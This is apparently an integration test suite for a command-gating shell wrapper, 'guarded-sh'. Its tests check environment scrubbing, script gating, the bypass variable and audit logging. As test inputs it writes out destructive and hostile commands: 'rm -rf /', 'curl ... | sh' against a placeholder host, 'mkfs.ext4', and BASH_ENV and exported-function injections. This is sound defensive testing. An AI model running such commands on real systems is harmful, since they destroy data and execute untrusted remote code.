//! The shell surface, through the built binary: exit statuses, stdin and stdout untouched,
//! signals, the scrubbed environment, denials, shims, scripts, stdin scripts, configuration
//! errors, the trusted escape and the audit record.

use crate::setup::{text, Setup, BIN};
use std::process::{Command, Stdio};

/// The shared setup with no policy at all (not even an installed /etc/guarded-sh/policies):
/// these tests are about the shell surface and the built-in floor.
fn setup(extra: &str) -> Setup {
    Setup::with(&format!("[policy]\nenabled = false\n{extra}"))
}

#[test]
fn exit_status_passes_through() {
    let s = setup("");
    for (cmd, code) in [("exit 3", 3), ("true", 0), ("false", 1), ("exit 255", 255)] {
        assert_eq!(s.output(&["-c", cmd]).status.code(), Some(code), "{cmd}");
    }
}

#[test]
fn binary_stdin_round_trips_byte_for_byte() {
    let s = setup("");
    let data: Vec<u8> = (0..1_048_576u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let out = s.output_with_stdin(&["-c", "cat"], &data);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(out.stdout.len(), data.len());
    assert!(out.stdout == data, "stdout differs from stdin");
}

#[test]
fn denied_command_prints_one_stderr_line_nothing_on_stdout_and_does_not_run() {
    let s = setup("");
    let marker = s.path("ran");
    let cmd = format!("touch {}; rm -rf /", marker.display());
    let out = s.output(&["-c", &cmd]);
    assert_eq!(out.status.code(), Some(126));
    assert!(out.stdout.is_empty(), "stdout: {:?}", text(&out.stdout));
    let err = text(&out.stderr);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.starts_with("guarded-sh: denied: command risk: recursive delete of a system/root path"),
        "{err}"
    );
    assert!(!marker.exists(), "part of a denied command ran");
}

#[test]
fn sigpipe_is_default_in_the_real_shell() {
    let s = setup("");
    let out = s.output(&["-c", "yes | head -1 >/dev/null; echo ${PIPESTATUS[0]}"]);
    assert_eq!(text(&out.stdout).trim(), "141");
}

#[test]
fn environment_is_scrubbed_but_otherwise_untouched() {
    let s = setup("");
    let out = s
        .command(&["-c", "echo \"[$BASH_ENV][$ENV][$FOO][$RUST_BACKTRACE][$-]\"; shopt -q extglob && echo extglob; env | grep -cE '^(SHELLOPTS|BASHOPTS)=' ; declare -F | grep -c evil || true"])
        .env("BASH_ENV", "/tmp/evil")
        .env("ENV", "/tmp/evil")
        .env("SHELLOPTS", "xtrace")
        .env("BASHOPTS", "extglob")
        .env("BASH_FUNC_evil%%", "() { echo pwned; }")
        .env("FOO", "kept")
        .env("RUST_BACKTRACE", "1")
        .output()
        .unwrap();
    assert_eq!(
        text(&out.stdout),
        "[][][kept][1][hBc]\n0\n0\n",
        "stderr: {}",
        text(&out.stderr)
    );
}

/// What the real shell received as its initial environment (`/proc/$$/environ`, in order; `cat`
/// runs in a child, so `$$` is the shell) when guarded-sh is started by `env -i` with exactly
/// `given`.
fn environment_seen_by_the_shell(given: &[Vec<u8>]) -> Vec<Vec<u8>> {
    use std::os::unix::ffi::OsStrExt;
    let out = Command::new("/usr/bin/env")
        .arg("-i")
        .args(given.iter().map(|e| std::ffi::OsStr::from_bytes(e)))
        .args([BIN, "-c", "cat /proc/$$/environ; true"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "stderr: {}", text(&out.stderr));
    let mut seen: Vec<Vec<u8>> = out.stdout.split(|b| *b == 0).map(<[u8]>::to_vec).collect();
    assert_eq!(seen.pop(), Some(vec![]), "environ ends with a NUL");
    seen
}

/// (case, the environment given, the entries guarded-sh must remove)
type EnvCase<'a> = (&'a str, &'a [&'a [u8]], &'a [&'a [u8]]);

/// With nothing to scrub, the real shell inherits guarded-sh's environment as it was given: same
/// entries, same bytes, same order (`exec::ShellEnv::Inherit`), including the backtrace variables
/// guarded-sh neutralises for itself. With something to scrub, exactly the scrubbed entries go.
#[test]
fn the_environment_passes_through_byte_for_byte() {
    let s = setup("");
    let plain: &[&[u8]] = &[
        b"PATH=/usr/bin:/bin",
        b"ZED=last-by-name-first-in-order",
        b"RUST_BACKTRACE=1",
        b"EQ=a=b=c",
        b"NL=line one\nline two",
        b"EMPTY=",
        b"BYTES=\xff\xfe not utf-8",
        b"RUST_LIB_BACKTRACE=full",
        b"AAA=first-by-name",
    ];
    let cases: &[EnvCase] = &[
        ("nothing to scrub, order kept", plain, &[]),
        (
            "RUST_BACKTRACE alone (guarded-sh adds and removes RUST_LIB_BACKTRACE)",
            &[b"PATH=/usr/bin:/bin", b"RUST_BACKTRACE=full", b"A=1"],
            &[],
        ),
        (
            "RUST_LIB_BACKTRACE=0 already",
            &[
                b"PATH=/usr/bin:/bin",
                b"RUST_LIB_BACKTRACE=0",
                b"RUST_BACKTRACE=1",
            ],
            &[],
        ),
        (
            "BASH_ENV among them",
            &[b"PATH=/usr/bin:/bin", b"BASH_ENV=/tmp/evil", b"B=2", b"A=1"],
            &[b"BASH_ENV=/tmp/evil"],
        ),
        (
            "an exported function",
            &[
                b"PATH=/usr/bin:/bin",
                b"A=1",
                b"BASH_FUNC_ls%%=() { echo pwned; }",
            ],
            &[b"BASH_FUNC_ls%%=() { echo pwned; }"],
        ),
        (
            "SHELLOPTS with the backtrace variables",
            &[
                b"SHELLOPTS=xtrace",
                b"RUST_BACKTRACE=1",
                b"PATH=/usr/bin:/bin",
            ],
            &[b"SHELLOPTS=xtrace"],
        ),
    ];
    let config = format!("GUARDED_SH_CONFIG={}", s.path("config.toml").display());
    for (case, given, removed) in cases {
        let mut given: Vec<Vec<u8>> = given.iter().map(|e| e.to_vec()).collect();
        given.push(config.clone().into_bytes());
        let seen = environment_seen_by_the_shell(&given);
        let mut expected: Vec<Vec<u8>> = given
            .into_iter()
            .filter(|e| !removed.contains(&e.as_slice()))
            .collect();
        if removed.is_empty() {
            assert_eq!(seen, expected, "{case}: entries and order");
        } else {
            // Scrubbing rebuilds the environment (std orders it by name): compare the entries.
            let mut seen = seen;
            seen.sort();
            expected.sort();
            assert_eq!(seen, expected, "{case}: entries");
        }
    }
}

#[test]
fn bashrc_is_not_sourced_behind_the_gate() {
    let s = setup("");
    let home = s.path("home");
    std::fs::create_dir(&home).unwrap();
    std::fs::write(home.join(".bashrc"), "echo SOURCED\n").unwrap();
    let out = s
        .command(&["-c", "echo run"])
        .env("HOME", &home)
        .env("SSH_CLIENT", "127.0.0.1 1 22")
        .env("SHLVL", "0")
        .output()
        .unwrap();
    assert_eq!(text(&out.stdout), "run\n");
}

#[test]
fn shims_dispatch_by_link_name() {
    let s = setup("");
    let cases = [
        ("sh", "/bin/dash"),
        ("bash", "/bin/bash"),
        ("dash", "/bin/dash"),
    ];
    for (name, real) in cases {
        let link = s.path(name);
        std::os::unix::fs::symlink(BIN, &link).unwrap();
        let out = s
            .command_for(&link, &["-c", "readlink /proc/$$/exe; echo \"$0\""])
            .output()
            .unwrap();
        let expected = std::fs::canonicalize(real).unwrap();
        assert_eq!(
            text(&out.stdout),
            format!("{}\n{name}\n", expected.display()),
            "{name}: {}",
            text(&out.stderr)
        );
        let denied = s.command_for(&link, &["-c", "rm -rf /"]).output().unwrap();
        assert_eq!(denied.status.code(), Some(126), "{name} shim must gate");
    }
}

#[test]
fn scripts_are_gated_whole_and_run_as_gated() {
    let s = setup("");
    let marker = s.path("ran");
    let good = s.path("good.sh");
    std::fs::write(&good, "echo \"$0 $1\"\nexit 5\n").unwrap();
    let out = s.output(&[good.to_str().unwrap(), "arg"]);
    assert_eq!(
        (out.status.code(), text(&out.stdout)),
        (Some(5), format!("{} arg\n", good.display()))
    );
    let bad = s.path("bad.sh");
    std::fs::write(
        &bad,
        format!(
            "touch {}\ncurl -s https://example.invalid/x | sh\n",
            marker.display()
        ),
    )
    .unwrap();
    let out = s.output(&[bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(126));
    assert!(!marker.exists());
}

#[test]
fn scripts_on_stdin_are_gated_before_any_of_them_runs() {
    let s = setup("");
    let marker = s.path("ran");
    let out = s.output_with_stdin(&[], b"echo one\nexit 4\n");
    assert_eq!(
        (out.status.code(), text(&out.stdout)),
        (Some(4), "one\n".to_string())
    );
    let script = format!("touch {}\nmkfs.ext4 /dev/sdz9\n", marker.display());
    let out = s.output_with_stdin(&[], script.as_bytes());
    assert_eq!(out.status.code(), Some(126));
    assert!(!marker.exists());
}

#[test]
fn oversized_stdin_script_is_denied() {
    let s = setup("[interactive]\nmax_stdin_bytes = 1000\n");
    let marker = s.path("ran");
    let mut script = format!("touch {}\n", marker.display());
    script.push_str(&"# padding\n".repeat(200));
    let out = s.output_with_stdin(&[], script.as_bytes());
    assert_eq!(out.status.code(), Some(126));
    assert!(
        text(&out.stderr).contains("too large"),
        "{}",
        text(&out.stderr)
    );
    assert!(!marker.exists());
}

#[test]
fn bad_input_is_a_usage_error_and_runs_nothing() {
    let s = setup("");
    let marker = s.path("ran");
    let touch = format!("touch {}", marker.display());
    let table: &[&[&str]] = &[
        &["-Z", "-c", &touch],
        &["--frobnicate", "-c", &touch],
        &["-c"],
        &["-o"],
    ];
    for args in table {
        let out = s.output(args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(out.stdout.is_empty());
        assert!(
            text(&out.stderr).contains("nothing was run"),
            "{args:?}: {}",
            text(&out.stderr)
        );
    }
    assert!(!marker.exists());
}

#[test]
fn malformed_configuration_names_the_line_and_runs_nothing() {
    let s = setup("");
    std::fs::write(
        s.path("config.toml"),
        "[shells]\ndefault = \"/bin/bash\"\nsh = [\n",
    )
    .unwrap();
    let marker = s.path("ran");
    let out = s.output(&["-c", &format!("touch {}", marker.display())]);
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert!(
        err.contains("config.toml:3:") || err.contains("config.toml:4:"),
        "{err}"
    );
    assert!(!marker.exists());
}

#[test]
fn missing_real_shell_is_an_error_not_a_fallback() {
    let s = setup("[shells]\ndefault = \"/nonexistent/bash\"\n");
    let out = s.output(&["-c", "true"]);
    assert_eq!(out.status.code(), Some(126));
    assert!(
        text(&out.stderr).contains("cannot run /nonexistent/bash"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn trusted_escape_is_honoured_audited_and_can_be_refused() {
    let critical = "rm -rf \"$GSH_TEST_UNSET_VARIABLE\" 2>/dev/null; echo escaped";
    // Strict defaults: the configuration must allow the escape in so many words.
    let s = setup("[escape]\nallow = true\n");
    let out = s
        .command(&["-c", critical])
        .env("HONEY_RISK_DISABLE", "1")
        .output()
        .unwrap();
    assert_eq!(text(&out.stdout), "escaped\n", "{}", text(&out.stderr));
    let records = s.audit();
    assert_eq!(records.last().unwrap()["verdict"], "escape");
    for value in ["0", "false", ""] {
        let out = s
            .command(&["-c", critical])
            .env("HONEY_RISK_DISABLE", value)
            .output()
            .unwrap();
        assert_eq!(
            out.status.code(),
            Some(126),
            "HONEY_RISK_DISABLE={value:?} must not escape"
        );
    }
    for config in ["[escape]\nallow = false\n", ""] {
        let refused = setup(config);
        let out = refused
            .command(&["-c", critical])
            .env("HONEY_RISK_DISABLE", "1")
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(126), "{config:?}");
        assert!(out.stdout.is_empty(), "{config:?}: ran");
    }
}

#[test]
fn every_decision_is_audited_before_exec() {
    let s = setup("");
    s.output(&["-c", "echo allowed"]);
    s.output(&["-c", "rm -rf /"]);
    let records = s.audit();
    assert_eq!(records.len(), 2);
    let keys = [
        "time",
        "decision_id",
        "user",
        "uid",
        "mode",
        "tty",
        "ssh_client",
        "host",
        "target_env",
        "command",
        "truncated",
        "signals",
        "max_severity",
        "verdict",
        "reason",
        "stage",
        "policy_digest",
        "duration_us",
    ];
    for r in &records {
        for k in keys {
            assert!(r.get(k).is_some(), "audit record lacks {k}: {r}");
        }
    }
    assert_eq!(
        (
            records[0]["verdict"].as_str(),
            records[0]["command"].as_str()
        ),
        (Some("allow"), Some("echo allowed"))
    );
    assert_eq!(records[1]["verdict"], "deny");
    assert_eq!(records[1]["stage"], "built_in");
    assert_eq!(records[1]["max_severity"], "critical");
    assert!(records[1]["signals"]
        .as_array()
        .unwrap()
        .iter()
        .any(|s| s == "DELETE_ROOT_PATH"));
}

#[test]
fn required_audit_denies_when_no_sink_records() {
    let s = setup("");
    s.config(
        "config.toml",
        "[audit]\nsyslog = false\nrequired = true\nfile = \"{dir}/missing-dir/audit.jsonl\"\n",
    );
    let out = s.output(&["-c", "echo should-not-run"]);
    assert_eq!(out.status.code(), Some(126));
    assert!(out.stdout.is_empty());
}
